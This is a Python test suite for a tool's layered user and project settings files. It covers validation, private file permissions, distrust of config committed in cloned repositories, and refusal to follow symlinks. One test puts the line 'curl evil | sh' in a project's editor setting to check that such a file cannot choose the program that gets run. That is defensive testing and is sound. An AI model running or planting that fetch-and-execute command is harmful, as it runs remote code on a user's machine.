"""Settings: two real files, the project's over the person's; what cannot be used is said, and nothing else is lost."""

import json
import os
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest
import tomlkit
from conftest import examples
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import repositories
from support.ours import in_checkout
from support.tables import each

from store.base.errors import InvalidInput, StorageError
from store.base.location import Location
from store.config.configuration import (
    Config,
    grant_config,
    load_config,
    may_capture,
    project_settings_path,
    read_config_entries,
    read_permission_request,
    remove_setting,
    user_settings_path,
    write_setting,
)
from store.config.settings import SETTINGS, find_setting
from store.memory import Memory
from store.projects.locating import locate
from store.upkeep import maintenance

KEY_IDS = ("record.forget", "record.correct", "memory.undo")


@pytest.fixture
def place(tmp_path: Path) -> Location:
    """A project with a folder for its memory."""
    (tmp_path / "project" / ".memoranda").mkdir(parents=True, mode=0o700)
    return locate(str(tmp_path / "project" / ".memoranda" / "memory.db"), {}, str(tmp_path))


def write(path: str | None, text: str | bytes, mode: int = 0o600) -> Path:
    """A file as a person's editor leaves it."""
    assert path
    file = Path(path)
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(text if isinstance(text, bytes) else text.encode())
    file.chmod(mode)
    return file


def neither_written_nor_removed(why: str) -> None:
    for change in (lambda path: write_setting(path, "theme", "x"), lambda path: remove_setting(path, "theme")):
        with pytest.raises(StorageError, match=why):
            change(user_settings_path())


def shown(config: Config) -> dict[str, tuple[object, str, str]]:
    return {value.name: (value.value, value.source, value.path) for value in config.values}


# where --------------------------------------------------------------------------------------------------------------


def test_the_persons_file_is_in_the_platforms_place(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "settings"))
    if sys.platform == "linux":
        assert user_settings_path() == str(tmp_path / "settings" / "memoranda" / "config.toml")
    assert user_settings_path().endswith("/memoranda/config.toml")


def test_a_projects_file_is_beside_its_memory_and_no_other(tmp_path: Path) -> None:
    """Never in the checkout itself; and a memory that lies elsewhere, or is personal, has none."""
    repositories.create(tmp_path / "project")
    here = locate(None, {}, str(tmp_path / "project"))
    assert project_settings_path(here) == str(Path(here.path).with_name("config.toml"))
    assert project_settings_path(locate(str(tmp_path / "any.db"), {}, "/")) is None
    assert project_settings_path(Location(str(tmp_path / ".memoranda" / "memory.db"), "personal", "")) is None
    write(str(tmp_path / "project" / "config.toml"), 'theme = "stranger"')
    assert load_config(here)["theme"] == "" and load_config(here).problems == []


# which value --------------------------------------------------------------------------------------------------------


def test_without_files_everything_is_as_it_comes(place: Location) -> None:
    config = load_config(place)
    assert shown(config) == {setting.name: (setting.default, "default", "") for setting in SETTINGS}
    assert (config.problems, config.remapped_keys) == ([], {})
    assert (config["retention_days"], config["enabled"], config["badges"]) == (365, True, "unicode")
    with pytest.raises(KeyError):
        config["nothing"]


def test_the_projects_value_wins_over_the_persons_and_that_over_the_default(place: Location) -> None:
    mine, ours = user_settings_path(), project_settings_path(place)
    write(mine, 'theme = "mine"\nretention_days = 30\nmotion = "none"\n[keys]\n"memory.undo" = "z"\n')
    write(ours, 'theme = "ours"\nretention_days = 7\n[keys]\n"memory.undo" = "U"\nrecord.forget = "F"\n')
    grant_config(ours, Path(ours).read_text())
    config = load_config(place, KEY_IDS)
    assert config.problems == []
    assert shown(config) == {
        **{setting.name: (setting.default, "default", "") for setting in SETTINGS},
        "theme": ("ours", "project", ours),
        "retention_days": (7, "project", ours),
        "motion": ("none", "user", mine),
        "keys.memory.undo": ("U", "project", ours),
        "keys.record.forget": ("F", "project", ours),
    }
    assert config.remapped_keys == {"memory.undo": "U", "record.forget": "F"}
    assert [value.name for value in config.values][: len(SETTINGS)] == [setting.name for setting in SETTINGS]


# what cannot be used ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("themes = 'x'", "There is no setting “themes”. Did you mean theme?"),
        ("zzzz = 1", "There is no setting “zzzz”. memoranda config lists them all."),
        ("[memory]\nenabled = false", "There is no setting “memory.enabled”. Did you mean enabled?"),
        ("[memory]\ntheme = 'x'", "There is no setting “memory.theme”. Did you mean theme?"),
        ("enabled = 'no'", "enabled takes true or false."),
        ("enabled = 0", "enabled takes true or false."),
        ("retention_days = true", "retention_days takes a whole number from 0 to 36500."),
        ("retention_days = -1", "retention_days takes a whole number from 0 to 36500."),
        ("retention_days = 36501", "retention_days takes a whole number from 0 to 36500."),
        ("badges = 'emoji'", "badges takes unicode or ascii."),
        ("theme = 3", "theme takes a text of one line."),
        ("theme = 'a\x1b[2J'".replace("\x1b", "\\u001b").replace("'", '"'), "theme takes a text of one line"),
        ("[keys]\n'record.forgte' = 'F'", "There is no key “record.forgte”. Did you mean record.forget?"),
        ("[keys]\n'record.forget' = ''", "keys.record.forget takes one or more keys, as in F, or ctrl+f,f."),
        ("[keys]\n'record.forget' = 'ctrl f'", "keys.record.forget takes one or more keys"),
        ("[keys]\n'record.forget' = 7", "keys.record.forget takes one or more keys"),
        ("keys = 'F'", "keys is a table of ids and keys."),
    ],
)
def test_a_line_that_cannot_be_used_is_said_and_changes_nothing_else(place: Location, line: str, said: str) -> None:
    """Its file and what it takes; the next lower value stands, and the lines around it count."""
    lower = write(user_settings_path(), "retention_days = 5\n")
    file = write(project_settings_path(place), f"motion = 'none'\n{line}\n")
    config = load_config(place, KEY_IDS)
    (problem,) = config.problems
    assert problem.startswith(f"{file}: ") and said in problem
    assert (config["motion"], config["retention_days"], config.remapped_keys) == ("none", 5, {})
    lower.unlink()
    assert load_config(place, KEY_IDS)["retention_days"] == 365


def test_without_the_ids_of_the_keys_every_one_is_believed(place: Location) -> None:
    """The store does not know the application's keys."""
    write(user_settings_path(), "[keys]\n'some.thing' = 'F'\n")
    assert (load_config(place).remapped_keys, load_config(place).problems) == ({"some.thing": "F"}, [])
    assert load_config(place, KEY_IDS).remapped_keys == {}


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("theme = 'a'\ntheme =\n", "is not TOML: Invalid value (at line 2"),
        ("theme = 'a'\ntheme = 'b'", "is not TOML"),
        (b"theme = '\xff'", "is not UTF-8 text"),
        ("x = " + "[" * 100_000, "is not TOML"),
        ("x = " + "1" * 5_000, "is not TOML"),
        ("#" * 1_000_001, "is larger than"),
        (".".join("a" * 2_000) + " = 1", "There is no setting"),
    ],
    ids=["malformed", "twice", "bytes", "deep", "digits", "large", "dotted"],
)
def test_a_file_that_cannot_be_used_is_said_and_the_other_counts(place: Location, text: str | bytes, said: str) -> None:
    paths = (user_settings_path(), project_settings_path(place))
    for path, other in (paths, paths[::-1]):
        file, beside = write(path, text), write(other, "motion = 'none'")
        config = load_config(place)
        assert len(config.problems) == 1
        assert config.problems[0].startswith(str(file)) and said in config.problems[0]
        assert (config["theme"], config["motion"]) == ("", "none")
        file.unlink()
        beside.unlink()


def test_what_is_no_readable_file_is_said_at_once(place: Location, tmp_path: Path) -> None:
    """A folder, a pipe that nobody writes to: neither may keep the program waiting. A link to itself stands for all
    that cannot be read: root, who may run this, reads any mode."""
    Path(user_settings_path()).mkdir(parents=True)
    os.mkfifo(project_settings_path(place) or "", 0o600)
    found: list[Config] = []
    reader = threading.Thread(target=lambda: found.append(load_config(place)), daemon=True)
    reader.start()
    reader.join(10)
    assert found, "it waits for the pipe"
    assert len(found[0].problems) == 2
    assert all("is not a plain file" in problem for problem in found[0].problems)
    Path(user_settings_path()).rmdir()
    os.unlink(project_settings_path(place) or "")
    Path(user_settings_path()).symlink_to(user_settings_path())
    (problem,) = load_config(place).problems
    assert "cannot be read: Too many levels" in problem


# strangers ----------------------------------------------------------------------------------------------------------


def test_a_file_that_came_with_a_checkout_is_not_believed(place: Location, tmp_path: Path) -> None:
    """A real clone of a repository in which somebody added `.memoranda/config.toml` by force."""
    repositories.create(tmp_path / "theirs")
    write(str(tmp_path / "theirs" / ".memoranda" / "config.toml"), "enabled = false\nretention_days = 1")
    repositories.git(tmp_path / "theirs", "add", "--force", ".")
    repositories.git(tmp_path / "theirs", "commit", "-m", "settings for everybody")
    subprocess.run(["git", "clone", "-q", "theirs", "mine"], cwd=tmp_path, umask=0o022, check=True)
    assert load_config(locate(None, {}, str(tmp_path / "mine"))).problems == []
    config = load_config(in_checkout(locate(None, {}, str(tmp_path / "mine"))))
    assert (config["enabled"], config["retention_days"]) == (True, 365)
    assert len(config.problems) == 1 and "chmod 600" in config.problems[0]
    with pytest.raises(StorageError, match="chmod 600"):  # to write it would make it ours, with their lines in it
        write_setting(str(tmp_path / "mine" / ".memoranda" / "config.toml"), "theme", "x")


def test_a_link_of_a_project_is_never_followed(place: Location, tmp_path: Path) -> None:
    elsewhere = write(str(tmp_path / "elsewhere.toml"), "theme = 'theirs'")
    Path(project_settings_path(place) or "").symlink_to(elsewhere)
    assert load_config(place)["theme"] == "" and "symbolic link" in load_config(place).problems[0]
    linked = tmp_path / "linked"
    (tmp_path / "folder").mkdir(mode=0o700)
    write(str(tmp_path / "folder" / "config.toml"), "theme = 'theirs'")
    linked.mkdir()
    (linked / ".memoranda").symlink_to(tmp_path / "folder")
    config = load_config(locate(str(linked / ".memoranda" / "memory.db"), {}, "/"))
    assert config["theme"] == "" and "symbolic link" in config.problems[0]
    with pytest.raises(StorageError, match="symbolic link"):
        write_setting(str(linked / ".memoranda" / "config.toml"), "theme", "x")


def test_a_person_may_keep_theirs_behind_a_link_but_nothing_is_written_through_it(place: Location, tmp_path: Path):
    """Many keep their settings in a repository of dotfiles."""
    dotfiles = write(str(tmp_path / "dotfiles" / "memoranda.toml"), "theme = 'mine'\n", 0o644)
    Path(user_settings_path()).parent.mkdir(parents=True)
    Path(user_settings_path()).symlink_to(dotfiles)
    assert load_config(place)["theme"] == "mine" and load_config(place).problems == []
    neither_written_nor_removed("symbolic link")
    assert dotfiles.read_text() == "theme = 'mine'\n"


def test_the_program_that_is_run_is_the_persons_own_word(place: Location) -> None:
    """`editor` is started by a key: a project's file cannot name it, nor be made to."""
    write(user_settings_path(), "editor = 'hx'")
    write(project_settings_path(place), "editor = 'curl evil | sh'")
    config = load_config(place)
    assert config["editor"] == "hx" and "only your own file sets it" in config.problems[0]
    with pytest.raises(InvalidInput, match="only your own file"):
        write_setting(project_settings_path(place) or "", "editor", "hx")


def test_a_setting_that_reaches_outside_is_nothing_to_a_projects_file_by_itself(place: Location) -> None:
    """Each of them, with a value that it takes, in a file as private as any of ours; but never one that keeps longer,
    or says what holds anyway."""
    samples = {"text": "x", "list": ["x"], "bool": True, "int": 1, "keys": "x"}
    reaching = [find_setting("keys.record.forget"), *(one for one in SETTINGS if one.reaches or one.keep)]
    assert len(reaching) >= 12
    for setting in reaching:
        value = samples.get(setting.kind, setting.choices[-1:] and setting.choices[-1])
        if setting.name == "checkpoints.micro_days":
            write(user_settings_path(), "[checkpoints]\nmicro_days = 5\n")
        path = project_settings_path(place) or ""
        table, _, name = setting.name.rpartition(".")
        said = json.dumps(value)
        write(path, f"[{table}]\n{name} = {said}\n" if table else f"{name} = {said}\n")
        config = load_config(place)
        found = config.find_value(setting.name)
        assert found is None or found.source != "project", setting.name
        assert len(config.problems) == 1 and f"{path} sets {setting.name}, which counts once" in config.problems[0]
        grant_config(path, Path(path).read_text())
        found = load_config(place).find_value(setting.name)
        assert found is not None and (found.value, found.source) == (value, "project")
    for text in ("retention_days = 366", "retention_days = 0", "[ingest]\nclaude = false"):
        write(project_settings_path(place), text)
        assert load_config(place).problems == []


# writing ------------------------------------------------------------------------------------------------------------

THEIRS = """\
# my settings

motion = "none"   # I get dizzy
badges = 'ascii'

[keys]
# left hand
"memory.undo" = "z"
record.forget = "F"
"""


def test_what_a_person_wrote_stays_as_it_was(place: Location) -> None:
    file = write(user_settings_path(), THEIRS)
    keys = {"keys.record.forget": "ctrl+f,F", "keys.record.correct": "C"}
    for name, value in {"theme": "nord", "badges": "unicode", **keys}.items():
        write_setting(user_settings_path(), name, value)
    assert [remove_setting(user_settings_path(), "keys.memory.undo") for _ in range(2)] == [True, False]
    text = file.read_text()
    lines = text.splitlines()
    assert lines[:3] == THEIRS.splitlines()[:3] and "# left hand" in lines
    assert lines.index('theme = "nord"') < lines.index("[keys]"), "a setting is not in the table of keys"
    config = load_config(place, KEY_IDS)
    assert config.problems == []
    assert config.remapped_keys == {"record.forget": "ctrl+f,F", "record.correct": "C"}
    assert (config["theme"], config["badges"], config["motion"]) == ("nord", "unicode", "none")
    assert remove_setting(user_settings_path(), "theme") and load_config(place)["theme"] == ""


def test_a_first_key_makes_the_table_and_a_misspelt_setting_can_be_taken_out(place: Location) -> None:
    write_setting(user_settings_path(), "keys.record.forget", "F")
    write_setting(user_settings_path(), "theme", "nord")
    assert tomlkit.parse(Path(user_settings_path()).read_text()) == {"keys": {"record.forget": "F"}, "theme": "nord"}
    write(user_settings_path(), "themes = 'x'\n[memory]\nenabled = false\n")
    assert remove_setting(user_settings_path(), "themes") and remove_setting(user_settings_path(), "memory.enabled")
    assert load_config(place).problems == []


@pytest.mark.parametrize(
    ("name", "typed", "value"),
    [
        *(("enabled", word, True) for word in ("true", "True", "yes", "on")),
        *(("enabled", word, False) for word in ("false", "no", "OFF")),
        ("retention_days", "0", 0),
        ("retention_days", "36500", 36500),
        ("badges", "ascii", "ascii"),
        ("theme", "", ""),
        ("editor", "code --wait 'x' \\ \"y\" ñ", "code --wait 'x' \\ \"y\" ñ"),
        ("keys.record.forget", "ctrl+f,F", "ctrl+f,F"),
    ],
)
def test_what_is_typed_is_what_is_read(place: Location, name: str, typed: str, value: object) -> None:
    assert write_setting(user_settings_path(), name, typed) == value
    found = load_config(place).find_value(name)
    assert found and (found.value, found.source, found.path) == (value, "user", user_settings_path())


@each(
    "name, typed, said",
    [
        ("enabled", "maybe", "enabled takes true or false."),
        ("enabled", "1", "enabled takes true or false."),
        ("retention_days", "-1", "a whole number from 0 to 36500"),
        ("retention_days", "36501", "a whole number from 0 to 36500"),
        ("retention_days", "٣", "a whole number from 0 to 36500"),
        ("retention_days", "9" * 5000, "a whole number from 0 to 36500"),
        ("badges", "emoji", "unicode or ascii"),
        ("theme", "a\nb", "a text of one line"),
        ("keys.record.forget", "a b", "one or more keys"),
        ("keys.", "F", "There is no setting “keys.”"),
        ("keys", "F", "keys is a table"),
        ("themes", "x", "Did you mean theme?"),
    ],
)
def test_what_does_not_fit_is_refused_and_nothing_is_written(name: str, typed: str, said: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        write_setting(user_settings_path(), name, typed)
    assert said in str(caught.value)
    assert not os.path.exists(os.path.dirname(user_settings_path()))


def test_files_are_private_whatever_the_mask(place: Location) -> None:
    old = os.umask(0)
    try:
        write_setting(user_settings_path(), "theme", "x")
        write_setting(project_settings_path(place) or "", "theme", "y")
    finally:
        os.umask(old)
    for path in (user_settings_path(), project_settings_path(place) or ""):
        assert stat.S_IMODE(os.lstat(path).st_mode) == 0o600
        assert stat.S_IMODE(os.lstat(os.path.dirname(path)).st_mode) == 0o700
        assert os.listdir(os.path.dirname(path)) == ["config.toml"]


def test_what_others_could_read_is_closed_with_the_next_change() -> None:
    file = write(user_settings_path(), "theme = 'x'\n", 0o644)
    file.parent.chmod(0o755)
    write_setting(user_settings_path(), "theme", "y")
    assert [stat.S_IMODE(path.stat().st_mode) for path in (file, file.parent)] == [0o600, 0o700]


def test_a_project_without_a_memory_is_told_how_to_start_one(tmp_path: Path) -> None:
    """Not made here: its folder is made with the file that keeps it out of git."""
    with pytest.raises(StorageError, match="memoranda open --new"):
        write_setting(str(tmp_path / ".memoranda" / "config.toml"), "theme", "x")
    assert os.listdir(tmp_path) == []


def test_a_malformed_file_is_left_as_it_is() -> None:
    file = write(user_settings_path(), "theme = \n")
    neither_written_nor_removed("line 1")
    assert file.read_text() == "theme = \n"


@pytest.mark.parametrize("broken", ["rename", "library"])
def test_a_change_is_whole_or_not_at_all(monkeypatch: pytest.MonkeyPatch, broken: str) -> None:
    """A disk that refuses, or a library that would lose a line: the file is as it was, and nothing lies beside it."""
    file = write(user_settings_path(), THEIRS)

    def refuse(source: str, target: str) -> None:
        raise OSError(28, "No space left on device")

    if broken == "rename":
        monkeypatch.setattr(os, "replace", refuse)
    else:
        monkeypatch.setattr(tomlkit, "dumps", lambda document: "theme = 'x'\n")
    with pytest.raises(StorageError, match=r"No space left|cannot be changed alone"):
        write_setting(user_settings_path(), "theme", "x")
    assert file.read_text() == THEIRS and os.listdir(file.parent) == ["config.toml"]


def test_two_that_write_at_once_both_stay(place: Location) -> None:
    """Each in a thread with its own handles, as two processes have."""
    ids = [f"key.number{number}" for number in range(12)]
    writers = [threading.Thread(target=write_setting, args=(user_settings_path(), f"keys.{name}", "F")) for name in ids]
    for writer in writers:
        writer.start()
    for writer in writers:
        writer.join()
    assert load_config(place).remapped_keys == dict.fromkeys(ids, "F")


WORDS = st.sampled_from(("theme", "motion", "keys", "a", "b.c", "keys.x.y", "é", "", "memory"))
TREES = st.recursive(
    st.booleans() | st.integers(-9, 9) | st.text(max_size=5),
    lambda inner: st.dictionaries(WORDS, inner, max_size=3) | st.lists(inner, max_size=2),
    max_leaves=8,
)


@settings(max_examples=examples(17), suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.dictionaries(WORDS, TREES, max_size=4), st.sampled_from(("theme", "keys.x.y", "keys.record.forget")))
def test_a_change_touches_one_value_only(place: Location, tree: dict[str, object], name: str) -> None:
    """Whatever else the file holds: what was there stays, the value is there, and taken out it is as before."""
    write(user_settings_path(), tomlkit.dumps(tree))
    before = read_config_entries(user_settings_path())
    try:
        write_setting(user_settings_path(), name, "f")
    except StorageError as error:
        assert "by hand" in str(error) and read_config_entries(user_settings_path()) == before
        return
    assert read_config_entries(user_settings_path()) == {**before, name: "f"}
    try:
        assert remove_setting(user_settings_path(), name)
    except StorageError as error:
        assert "by hand" in str(error)
        return
    before.pop(name, None)
    assert read_config_entries(user_settings_path()) == before


# what it steers -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "allowed"),
    [
        ("", {"commits", "decisions", "events"}),
        ("enabled = false", set()),
        ("enabled = false\ncapture_commits = true", set()),
        ("capture_commits = false", {"decisions", "events"}),
        ("capture_decisions = false", {"commits", "events"}),
    ],
)
def test_what_may_be_captured(place: Location, text: str, allowed: set[str]) -> None:
    write(user_settings_path(), text)
    config = load_config(place)
    assert {what for what in ("commits", "decisions", "events") if may_capture(config, what)} == allowed


def test_a_memory_reads_its_settings_once(memory: Memory) -> None:
    write(project_settings_path(memory.location), "theme = 'first'")
    assert memory.config["theme"] == "first"
    write(project_settings_path(memory.location), "theme = 'second'")
    assert memory.config["theme"] == "first"


@pytest.mark.parametrize(("days", "left"), [(365, 1), (0, 2), (30, 1), (800, 2)])
def test_events_are_kept_as_long_as_is_set(memory: Memory, clock, tmp_path: Path, days: int, left: int) -> None:
    write(user_settings_path(), f"retention_days = {days}")
    memory.events.log("old")
    clock.advance(days=400)
    memory.events.log("new")
    maintenance.run_maintenance(memory, str(tmp_path))
    assert memory.database.value("SELECT count(*) FROM events") == left


def test_what_the_person_has_too_needs_no_permission(place: Location) -> None:
    path = write(project_settings_path(place), "[ingest]\nclaude = true\n")
    assert read_permission_request(place) == (str(path), "[ingest]\nclaude = true\n", ["ingest.claude = True"])
    write(user_settings_path(), "[ingest]\nclaude = true\n")
    assert read_permission_request(place)[2] == []


@pytest.mark.parametrize(("text", "on"), [("1", True), ("0", False), ("true", True), ("no", False)])
def test_a_switch_in_the_environment_takes_one_and_zero(place: Location, monkeypatch, text: str, on: bool) -> None:
    monkeypatch.setenv("MEMORANDA_PLAIN", text)
    config = load_config(place)
    assert config["plain"] is on and not config.problems
